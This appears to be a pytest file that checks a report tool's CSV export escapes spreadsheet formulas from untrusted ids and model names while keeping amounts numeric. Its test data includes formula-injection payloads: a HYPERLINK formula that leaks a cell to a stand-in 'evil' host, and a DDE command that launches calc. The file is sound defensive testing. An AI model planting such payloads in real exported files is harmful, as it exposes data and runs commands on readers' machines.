"""CSV output never hands a spreadsheet a formula from untrusted text (ids, model names come
from span attributes); numbers stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from llm_margin.processor.reports.render import csv_cell, render


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("http://evil/"&A1,"x")', '\'=HYPERLINK("http://evil/"&A1,"x")'),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("+1-2", "'+1-2"),
        ("-cmd", "'-cmd"),
        ("\tx", "'\tx"),
        ("-3.50", "-3.50"),  # a negative amount as text
        ("+7", "+7"),
        (Decimal("-3.5"), Decimal("-3.5")),
        (-2, -2),
        ("acme", "acme"),
        ("", ""),
    ],
)
def test_csv_cell(value, cell):
    assert csv_cell(value) == cell


def test_report_csv_escapes_formula_ids():
    rows = [{"customer_id": "=1+2", "margin_usd": Decimal("-3.50")}]
    text = render(rows, ["customer_id", "margin_usd"], "csv")
    assert list(csv.reader(io.StringIO(text))) == [
        ["customer_id", "margin_usd"],
        ["'=1+2", "-3.50"],
    ]


def test_export_csv_escapes_formula_ids_and_keeps_amounts():
    from llm_margin.processor.reports.export import to_csv

    line = {
        "period": "2026-11",
        "customer_id": "=HYPERLINK(1)",
        "plan": "pro",
        "provider": "openai",
        "model": "@evil",
        "calls": 1,
        "input_tokens": 10,
        "output_tokens": 5,
        "unpriced_calls": 0,
        "cost_usd": Decimal("1.5"),
        "markup_pct": Decimal("20"),
        "amount_usd": Decimal("1.8"),
    }
    rows = list(csv.DictReader(io.StringIO(to_csv([line]))))
    assert rows[0]["customer_id"] == "'=HYPERLINK(1)" and rows[0]["model"] == "'@evil"
    assert Decimal(rows[0]["amount_usd"]) == Decimal("1.8")
    assert rows[1]["customer_id"] == "TOTAL"
